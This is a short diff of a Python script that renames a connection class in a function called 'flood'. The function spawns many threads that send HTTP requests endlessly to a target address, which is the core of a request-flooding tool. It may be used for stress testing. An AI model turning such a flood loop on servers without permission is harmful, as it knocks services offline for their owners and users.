@@ -4,18 +4,18 @@ import pickle
 import sys
 import threading
 
-from attack_http import NoAnswer, Wire
+from attack_http import HttpConnection, NoAnswer
 
 
 def flood(address: tuple[str, int], requests: list[bytes], connections: int) -> None:
     def send(number: int) -> None:
-        with Wire(address) as wire:
+        with HttpConnection(address) as http:
             while True:
                 for request in requests[number % len(requests) :]:
                     try:
-                        wire.exchange(request)
+                        http.exchange(request)
                     except NoAnswer:
-                        wire.close()
+                        http.close()
 
     threads = [threading.Thread(target=send, args=(number,), daemon=True) for number in range(connections)]
     for thread in threads:
